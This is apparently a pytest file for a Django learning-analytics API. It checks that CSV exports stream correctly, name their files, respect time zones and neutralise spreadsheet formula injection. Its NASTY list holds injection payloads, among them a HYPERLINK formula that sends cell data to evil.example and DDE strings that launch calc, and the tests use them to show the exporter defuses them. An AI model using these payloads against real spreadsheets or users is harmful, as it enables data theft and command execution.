"""Every answer as CSV: streamed, whole, and safe to open in a spreadsheet."""

import datetime
import re
import unicodedata
from decimal import Decimal

import pytest
from django.apps import apps

from figures_lite.api.v1.export import cell, lines
from figures_lite.models import Course, CourseLearner
from tests.api.conftest import ALGEBRA, CHESS, person

WINDOW = {"start": "2026-03-02", "end": "2026-03-07"}


def test_a_series_has_a_column_for_each_metric_and_slice(csv_rows, numbers):
    assert csv_rows(f"courses/{ALGEBRA}/stats/", metric="enrolled,mean_progress", **WINDOW) == [
        ["period", "enrolled", "mean_progress"],
        ["2026-03-02", "", ""],
        ["2026-03-03", "10", "15.0"],
        ["2026-03-04", "12", "20.0"],
        ["2026-03-05", "12", "20.833333"],
        ["2026-03-06", "", ""],
    ]
    assert csv_rows(f"courses/{ALGEBRA}/stats/", metric="enrolled", by="mode", **WINDOW)[:3] == [
        ["period", "enrolled[mode=audit]", "enrolled[mode=verified]"],
        ["2026-03-02", "", ""],
        ["2026-03-03", "0", "0"],
    ]


def test_a_series_without_slices_has_its_periods_alone(csv_rows, numbers):
    rows = csv_rows(f"courses/{CHESS}/stats/", metric="enrolled", by="mode", **WINDOW)
    assert rows == [["period"]] + [[f"2026-03-0{day}"] for day in range(2, 7)]


def test_a_table_is_whole_and_filtered_and_ordered(csv_rows, numbers):
    rows = csv_rows("courses/", metric="enrolled", at="2026-03-03", ordering="-enrolled", known="true", page_size=1)
    assert rows == [
        ["key", "org", "name", "start", "end", "known", "approximate", "enrolled"],
        [ALGEBRA, "Ünï", "Algebra für alle", "2026-01-01T00:00:00Z", "", "true", "false", "10"],
        ["course-v1:Ünï+BOT+2026", "Ünï", "'=1+1 Botany", "", "", "true", "true", "3"],
        [CHESS, "Club", "Chess", "", "2026-01-01T00:00:00Z", "true", "false", "1"],
    ]
    assert csv_rows("orgs/", metric="enrolled", at="2026-03-03") == [["org", "enrolled"], ["Club", "1"], ["Ünï", "13"]]


def test_learners_with_formulas_for_names(csv_rows, learners):
    rows = csv_rows(f"courses/{ALGEBRA}/learners/", search="cmd")
    assert rows[0][:4] == ["user_id", "username", "name", "email"]
    assert rows[1][1:4] == ["'=cmd", "'@SUM(1)", "'=cmd@example.org"]
    cells = dict(zip(*rows, strict=True))
    assert (cells["grade"], cells["letter"], cells["passed_at"], cells["enrolled"]) == ("0", "", "", "true")


def test_a_file_larger_than_a_page_and_a_chunk_is_whole(csv_rows, ask, courses):
    CourseLearner.objects.bulk_create(
        CourseLearner(course=courses.chess, learner_id=100_000 + n, progress=n % 101) for n in range(1203)
    )
    rows = csv_rows(f"courses/{CHESS}/learners/", ordering="-progress", page=7)
    assert len(rows) == 1204
    progress = [int(row[rows[0].index("progress")]) for row in rows[1:]]
    assert progress == sorted(progress, reverse=True)
    assert len({row[0] for row in rows}) == 1204


def test_the_catalogue(csv_rows, people):
    rows = csv_rows("metrics/")
    assert rows[0] == [
        "name", "kind", "label", "meaning", "unit", "adds_over_time", "adds_over_courses", "source", "stored",
    ]  # fmt: skip
    monthly = next(row for row in rows if row[0] == "monthly_active")
    assert [*monthly[1:3], *monthly[4:]] == [
        "distinct", "Monthly active learners", "learners", "false", "false", "", "course month; org month; site month",
    ]  # fmt: skip


def test_the_file_says_what_is_in_it_and_the_time_zone(ask, numbers, settings):
    response = ask(f"courses/{CHESS}/stats/", format="csv", metric="enrolled", **WINDOW)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    name = "figures-course-v1-Club-CHESS-2026-day-2026-03-02-2026-03-07-UTC.csv"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    settings.FIGURES_LITE_TIME_ZONE = "Europe/Paris"
    name = ask("courses/", format="csv", metric="enrolled", at="2026-03-03")["Content-Disposition"]
    assert name == 'attachment; filename="figures-courses-day-2026-03-03-Europe-Paris.csv"'
    name = ask(f"courses/{ALGEBRA}/stats/", format="csv", metric="enrolled", **WINDOW)["Content-Disposition"]
    assert name.startswith("attachment; filename*=utf-8''figures-course-v1-%C3%9Cn%C3%AF-ALG-2026-day")


def test_csv_can_be_accepted_too(ask, numbers):
    response = ask("courses/", headers={"accept": "text/csv"}, metric="enrolled")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert b"".join(response.streaming_content).startswith(b"key,org,name")
    assert ask("courses/", headers={"accept": "text/html,*/*"})["Content-Type"] == "application/json"


def test_head_tells_the_headers_and_reads_no_rows(ask, numbers, learners, django_assert_max_num_queries):
    for parameters in ({"format": "csv"}, {}):
        head = ask("courses/", method="head", metric="enrolled", **parameters)
        get = ask("courses/", metric="enrolled", **parameters)
        assert (head.status_code, head["Content-Type"], head["ETag"]) == (200, get["Content-Type"], get["ETag"])
        assert (b"".join(head.streaming_content) if head.streaming else head.content) == b""


def test_a_bad_question_for_csv_is_refused_before_anything_is_sent(ask, numbers):
    response = ask("courses/", format="csv", ordering="height")
    assert (response.status_code, response["Content-Type"]) == (400, "application/json")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_only_text_is_quoted_against_formulas(start):
    assert cell(f"{start}1") == f"'{start}1"
    assert [cell(value) for value in (-1, -1.5, None, "a=b", "")] == ["-1", "-1.5", "", "a=b", ""]


#: What people have called themselves, their courses and their cohorts.
NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1"', "'=1+1", "' \"=1+1", "\t=1+1", "\r=1+1", "\n=1+1",
    "\x00=1+1", "\uff1d1+1", "\uff0b1", "\uff20SUM(1)", "x;=1+1", 'x";"=1+1', "x\t=1+1", "x\r\n=1+1",
]  # fmt: skip


def runs(shown):
    """Whether some way of reading a cell finds a formula: as it is, or cut at semicolons, tabs and line ends."""
    parts = [re.sub(r'[\s"\x00\ufeff\u200b]', "", part) for part in re.split(r"[;\t\r\n]", shown)]
    return any(unicodedata.normalize("NFKC", part).startswith(("=", "+", "-", "@")) for part in parts)


@pytest.mark.parametrize("text", NASTY)
def test_no_way_of_reading_a_cell_finds_a_formula(text):
    shown = cell(text)
    assert shown.replace("'", "") == text.replace("'", "")
    assert not runs(shown)


@pytest.mark.parametrize("text", ["a=b", "x-1", "a@example.org", "x+y", "A; B", "1;2", "Ann - Bob", '"quoted"', "a\nb"])
def test_what_is_no_formula_stays(text):
    assert cell(text) == text


@pytest.mark.parametrize("number", [-1, -1.5, Decimal("-2.25"), 0, 10**12])
def test_a_number_stays_a_number(number):
    assert float(cell(number)) == number


def test_nasty_names_everywhere(csv_rows, courses, learners):
    """A course, an organisation, a username, a name, a cohort, a mode: each that people can choose, in each file."""
    for number, text in enumerate(NASTY):
        text = text.replace("\x00", " ")  # no database takes it
        course = Course.objects.create(key=f"course-v1:Nasty+{number}+R", org=text, name=text, known=True)
        who = person(f"{text[:100]} {number}", first_name=text[:150])
        apps.get_model("student", "UserProfile").objects.create(user=who, name=text)
        CourseLearner.objects.create(
            course=course, learner_id=who.pk, cohort=text, mode=text, letter=text, certificate=text[:32]
        )
        for address in (f"courses/{course.key}/learners/", f"learners/{who.pk}/"):
            header, row = csv_rows(address)
            assert len(row) == len(header)
            assert [shown for shown in row if runs(shown)] == []
    for address in ("courses/", "orgs/"):
        rows = csv_rows(address)
        assert len(rows) > len(set(NASTY)) // 2
        assert [shown for row in rows for shown in row if runs(shown)] == []


def test_instants_are_in_the_reporting_zone(settings):
    settings.FIGURES_LITE_TIME_ZONE = "Asia/Kolkata"
    at = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
    assert (
        b"".join(lines([[at, True, 'a "quoted", cell']])) == b'2026-01-01T05:30:00+05:30,true,"a ""quoted"", cell"\r\n'
    )


def test_csv_is_given_where_the_lms_turns_off_the_parameter_format(ask, numbers, settings):
    settings.REST_FRAMEWORK = {"URL_FORMAT_OVERRIDE": None}
    assert ask("metrics/", format="csv")["Content-Type"].startswith("text/csv")
    assert ask("metrics/", format="json")["Content-Type"] == "application/json"
    assert ask("metrics/", format="xml").status_code == 400
    assert ask("metrics/", headers={"accept": "text/csv"})["Content-Type"].startswith("text/csv")
